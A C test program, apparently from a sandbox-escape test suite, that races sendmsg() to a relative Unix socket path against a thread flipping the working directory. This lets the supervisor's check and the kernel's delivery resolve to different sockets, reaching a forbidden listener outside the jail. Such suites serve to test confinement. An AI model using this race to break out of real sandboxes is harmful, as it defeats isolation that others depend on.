/* e0110-toctou-sendmsg-unix-cwd - e0108's relative unix socket path, as
 * the msg_name of sendmsg() on a datagram socket.
 *
 * Attack: sendmsg() to the relative path "../FORBIDDEN" (FORBIDDEN without
 * its leading "/") while another thread switches the working directory
 * between a directory of the jail, where that path names a datagram
 * socket of the program's own, and /usr, where it names the forbidden
 * socket (a listener outside the jail that counts datagrams).  The
 * supervisor resolves msg_name against the cwd it sees when it checks;
 * the kernel against the cwd of the moment.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (relative paths and the
 * working directory); doc/races.md section 3 (msg_name of sendmsg is
 * copied as given).
 * Usage: e0110-toctou-sendmsg-unix-cwd FORBIDDEN-SOCKET   (absolute) */
#include <limits.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0110-toctou-sendmsg-unix-cwd FORBIDDEN-SOCKET");
	const char *forbidden = argv[1];
	char rel[PATH_MAX], own[PATH_MAX];
	/* From e0110/sub, "../X" is e0110/X: a socket of ours there. */
	esc_cwd_race_paths("e0110", forbidden, rel, own, sizeof rel);
	int mine = esc_unix_dgram_bind(own);
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, rel);
	struct esc_flipper flip;
	esc_cwd_flipper_start(&flip, "e0110");
	esc_race_sendmsg_unix(&sa, len, mine, false);
	esc_cwd_flipper_stop(&flip);
	return 0;
}
